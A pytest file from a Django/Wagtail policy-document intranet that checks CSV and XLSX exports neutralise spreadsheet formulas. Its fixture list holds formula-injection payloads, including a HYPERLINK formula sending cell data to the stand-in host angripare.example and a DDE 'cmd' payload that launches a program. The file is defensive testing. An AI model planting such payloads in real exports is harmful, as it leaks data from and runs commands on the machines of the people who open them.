"""CSV exports cannot carry formulas (issue 14, item 7).

A title like ``=HYPERLINK(...)`` in a CSV export would run as a formula in the spreadsheet of
whoever opens it. Every CSV export (Styrdok's Revisionsplan and Beslutsärenden, Wagtail's own
reports) writes its cells through styrdok.security.spreadsheets.neutralise_csv_cell.
"""

import csv
import io

import openpyxl
import pytest
from django.test import Client

from policies.models import RiktlinjePage
from styrdok.security.spreadsheets import neutralise_csv_cell
from tests.factories import INTRANET_HOST, make_document, make_user

DANGEROUS = [
    '=HYPERLINK("http://angripare.example/?d="&A1;"Klicka")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_cell_starting_a_formula_is_made_text(value):
    assert neutralise_csv_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["Riktlinje för e-post", "2026-01-31", "", " =inte i början", "'redan text", 5, -5]
)
def test_other_cells_are_unchanged(value):
    assert neutralise_csv_cell(value) == value


def csv_rows(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(content), delimiter=";"))


@pytest.fixture
def superuser_client(db):
    client = Client(HTTP_HOST=INTRANET_HOST)
    client.force_login(make_user("csvadmin", superuser=True))
    return client


@pytest.fixture
def formula_document(db):
    return make_document(RiktlinjePage, title=DANGEROUS[0])


@pytest.mark.parametrize(
    "url",
    [
        "/admin/rapporter/revisionsplan/",  # Styrdok's Revisionsplan
        "/admin/reports/site-history/",  # Wagtail's own report
    ],
)
def test_exports_write_a_formula_title_as_text(superuser_client, formula_document, url):
    rows = csv_rows(superuser_client.get(url, {"export": "csv"}))

    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + DANGEROUS[0] in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]


def test_the_xlsx_export_keeps_the_title_as_text(superuser_client, formula_document):
    response = superuser_client.get("/admin/rapporter/revisionsplan/", {"export": "xlsx"})

    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    title = next(cell for cell in cells if cell.value == DANGEROUS[0])
    assert title.data_type == "s"
